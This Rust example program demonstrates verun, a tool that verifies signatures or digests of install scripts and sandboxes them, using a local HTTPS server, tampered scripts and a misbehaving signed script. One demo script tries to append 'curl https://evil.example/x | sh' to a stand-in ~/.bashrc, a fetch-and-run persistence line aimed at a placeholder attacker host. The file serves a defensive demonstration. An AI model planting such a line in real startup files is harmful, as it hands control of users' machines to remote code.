//! The verun demo: no internet needed.
//!
//! `cargo run --example quickstart` builds verun (saying so), generates a minisign key pair
//! and a test certificate authority, serves a signed install script over HTTPS on
//! 127.0.0.1, and then:
//!
//! 1. runs it with `verun run URL --key RW...` (it runs, and its output is shown);
//! 2. runs a tampered copy served under the genuine signature (refused with exit 77);
//! 3. pins the digest instead of a key with `--sha256` (the same tampering is refused);
//! 4. runs a genuinely signed script that misbehaves in a capsule (`--capsule`): it may
//!    write only where it is allowed, so your `~/.bashrc` (a stand-in here) stays untouched.
//!
//! Every command is printed as one shell line, with the `VERUN_HOME`, `--cacert` and
//! environment it really uses, and is executed exactly as printed (`sh -c LINE`), so it can
//! be copied and pasted: `cargo run --example quickstart -- --serve` keeps the server up
//! afterwards until Enter is pressed. `tests/quickstart.rs` runs the printed lines.
//!
//! The loopback server, the test CA and the independent minisign signer are the ones the
//! integration tests use (`tests/common/`).

#[path = "../tests/common/mod.rs"]
mod common;

use std::io::Write;
use std::path::Path;
use std::process::{Command, ExitCode};

use common::demo::{build_verun, sh_quote};
use common::server::{Reply, TestServer};
use common::sha256_hex;
use common::sign::TestKey;

const SCRIPT: &str = r#"#!/bin/sh
# A typical installer: it would download and install a tool.
echo "  [payload] hello from a verified install script"
echo "  [payload] my arguments: $*"
echo "  [payload] GITHUB_TOKEN is ${GITHUB_TOKEN:-not visible to me}"
"#;

const GREEDY: &str = r#"#!/bin/sh
# Genuinely signed, but it does more than it should.
echo "  [payload] installing into $1"
echo tool > "$1/tool" && echo "  [payload] wrote $1/tool"
if echo 'curl https://evil.example/x | sh' >> "$DEMO_BASHRC" 2>/dev/null; then
  echo "  [payload] EVIL: appended a line to $DEMO_BASHRC"
else
  echo "  [payload] could not touch $DEMO_BASHRC: the capsule denied it"
fi
"#;

/// One step of the demo: a title, the shell line shown and run, the exit status expected.
pub struct Step {
    /// What the step shows.
    pub title: &'static str,
    /// The command, as printed and as run (`sh -c`).
    pub line: String,
    /// The exit status the step demonstrates.
    pub expect: i32,
}

/// The served files, the state directory and the steps; the server lives as long as this.
pub struct Demo {
    /// Serves the genuine script and a tampered copy.
    pub server: TestServer,
    /// `VERUN_HOME` of every step.
    pub home: tempfile::TempDir,
    /// The steps, in order.
    pub steps: Vec<Step>,
}

/// Serve the genuine script and a tampered copy (both next to the genuine signature) and
/// describe the steps for `verun`.
pub fn set_up(verun: &Path) -> Demo {
    let home = tempfile::tempdir().expect("temp dir");
    let server = TestServer::https();
    let key = TestKey::generate();
    let sig = key.sign(SCRIPT.as_bytes(), "install.sh");
    server.route("/install.sh", Reply::bytes(SCRIPT));
    server.route("/install.sh.minisig", Reply::bytes(sig.clone()));
    // A compromised download host: same name, the genuine signature, other bytes.
    let evil = SCRIPT.replace(
        "echo \"  [payload] hello",
        "echo \"  [payload] EVIL: sending your environment away\"\necho \"  [payload] hello",
    );
    server.route("/compromised/install.sh", Reply::bytes(evil));
    server.route("/compromised/install.sh.minisig", Reply::bytes(sig));
    server.route("/greedy/install.sh", Reply::bytes(GREEDY));
    server.route(
        "/greedy/install.sh.minisig",
        Reply::bytes(key.sign(GREEDY.as_bytes(), "install.sh")),
    );
    let prefix = home.path().join("prefix");
    let bashrc = home.path().join("bashrc");
    std::fs::create_dir_all(&prefix).expect("demo prefix");
    std::fs::write(&bashrc, "# your shell's startup file\n").expect("demo bashrc");
    let url = server.url("/install.sh");
    let evil_url = server.url("/compromised/install.sh");
    let pubkey = key.public_key_base64();
    let sha = sha256_hex(SCRIPT.as_bytes());
    let line = |args: &[&str]| {
        let mut words = vec![
            format!(
                "VERUN_HOME={}",
                sh_quote(&home.path().display().to_string())
            ),
            "GITHUB_TOKEN=ghp_demo_secret".to_string(),
            sh_quote(&verun.display().to_string()),
        ];
        words.extend(args.iter().map(|a| sh_quote(a)));
        words.join(" ")
    };
    let ca = server.ca_pem_path().display().to_string();
    let steps = vec![
        Step {
            title: "1. the genuine script, verified with the publisher's key, secrets scrubbed",
            line: line(&[
                "run",
                &url,
                "--key",
                &pubkey,
                "--cacert",
                &ca,
                "--env-clean",
                "--",
                "--demo",
            ]),
            expect: 0,
        },
        Step {
            title: "2. a compromised host serves a tampered script next to the genuine signature",
            line: line(&["run", &evil_url, "--key", &pubkey, "--cacert", &ca]),
            expect: 77,
        },
        Step {
            title: "3. no key at hand: pin the digest published elsewhere (same tampered script)",
            line: line(&["run", &evil_url, "--sha256", &sha, "--cacert", &ca]),
            expect: 77,
        },
        Step {
            title: "4. a genuinely signed script that misbehaves, in a capsule: it may write only below --allow-write",
            line: line(&[
                "run",
                &server.url("/greedy/install.sh"),
                "--key",
                &pubkey,
                "--cacert",
                &ca,
                "--capsule=best-effort",
                "--allow-write",
                &prefix.display().to_string(),
                "--env",
                &format!("DEMO_BASHRC={}", bashrc.display()),
                "--",
                &prefix.display().to_string(),
            ]),
            expect: 0,
        },
    ];
    Demo {
        server,
        home,
        steps,
    }
}

/// `sh -c LINE`: the step exactly as printed. Returns its exit status (-1: killed).
pub fn run_line(line: &str) -> i32 {
    Command::new("sh")
        .args(["-c", line])
        .status()
        .map(|s| s.code().unwrap_or(-1))
        .unwrap_or(-1)
}

fn main() -> ExitCode {
    let serve = std::env::args().any(|a| a == "--serve");
    let verun = match build_verun("quickstart") {
        Ok(p) => p,
        Err(e) => {
            eprintln!("quickstart: {e}");
            return ExitCode::FAILURE;
        }
    };
    let demo = set_up(&verun);
    let mut ok = true;
    for step in &demo.steps {
        println!("\n== {}\n$ {}", step.title, step.line);
        let _ = std::io::stdout().flush();
        let code = run_line(&step.line);
        let meaning = match code {
            0 => "",
            77 => " (77 = refused; the tampered script did not run)",
            _ => "",
        };
        println!("-> exit status {code}{meaning}");
        ok &= code == step.expect;
    }
    println!(
        "\nquickstart: {}",
        if ok {
            "genuine bytes ran, tampered bytes were refused both times, and the capsule kept the signed script to its own directory"
        } else {
            "UNEXPECTED RESULT (see above)"
        }
    );
    if serve {
        println!(
            "quickstart: serving on {} until you press Enter: the commands above work as printed",
            demo.server.base_url()
        );
        let mut line = String::new();
        let _ = std::io::stdin().read_line(&mut line);
    } else {
        println!(
            "quickstart: the server stops now; `cargo run --example quickstart -- --serve` keeps it up to try the commands"
        );
    }
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
